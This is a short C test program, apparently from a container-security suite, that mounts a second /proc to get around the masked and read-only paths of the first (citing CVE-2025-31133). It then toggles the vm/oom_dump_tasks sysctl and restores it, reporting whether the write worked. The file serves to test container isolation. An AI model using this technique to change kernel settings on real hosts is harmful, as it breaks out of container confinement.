// SPDX-License-Identifier: GPL-2.0-only
// A /proc that the attacker mounts itself, without what was masked or made
// read-only in the first one (CVE-2025-31133 and before): a sysctl is written.
#include <sys/mount.h>

#include "attack.h"

#define AGAIN	"/tmp/proc-again"
#define SYSCTL	AGAIN "/sys/vm/oom_dump_tasks"

int main(void)
{
	char *old, *now = NULL;
	bool done;
	int err;

	NEED(!mkdir(AGAIN, 0700) || errno == EEXIST);
	if (mount("proc", AGAIN, "proc", 0, NULL)) {
		err = errno;
		rmdir(AGAIN);
		errno = err;
		refused("mount");
	}
	old = get(SYSCTL);
	done = old && !put(SYSCTL, *old == '0' ? "1" : "0");
	err = errno;
	if (done) {
		now = get(SYSCTL);
		put(SYSCTL, old);
	}
	umount2(AGAIN, MNT_DETACH);
	rmdir(AGAIN);
	errno = err;
	if (!done)
		refused("write");
	if (now && *now != *old)
		worked("a sysctl was changed");
	harmless("the value stays");
}
